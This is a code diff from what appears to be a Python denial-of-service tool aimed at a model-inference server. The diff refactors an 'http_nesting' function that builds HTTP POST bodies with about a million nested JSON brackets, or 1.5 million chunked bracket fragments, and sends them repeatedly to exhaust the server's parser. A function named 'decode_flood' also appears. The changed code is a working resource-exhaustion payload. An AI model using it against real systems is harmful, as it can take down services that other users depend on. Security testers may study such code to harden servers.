@@ -93,24 +93,12 @@ def decode_flood(grpc_url: str, stop: threading.Event, video: bytes, width: int 
 
 
 def http_nesting(http_url: str, stop: threading.Event, chunked: bool = False) -> int:
-    host, port = http_url.rsplit(":", 1)
-    head = b"POST /v2/models/videoitg/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
     if chunked:
-        request = head + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n[\r\n" * 1_500_000 + b"0\r\n\r\n"
+        request = HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n[\r\n" * 1_500_000 + b"0\r\n\r\n"
     else:
         body = b'{"inputs":' + b"[" * 1_000_000
-        request = head + b"Content-Length: %d\r\n\r\n" % len(body) + body
-    sent = 0
-    while not stop.is_set():
-        try:
-            with socket.create_connection((host, int(port)), timeout=30) as s:
-                s.sendall(request)
-                s.recv(100)
-            sent += 1
-        except OSError:
-            pass
-        stop.wait(0.5)
-    return sent
+        request = HEAD + b"Content-Length: %d\r\n\r\n" % len(body) + body
+    return send_repeatedly(http_url, stop, request, 0.5)
 
 
 def send_repeatedly(http_url: str, stop: threading.Event, request: bytes, pause_s: float = 0.2) -> int:
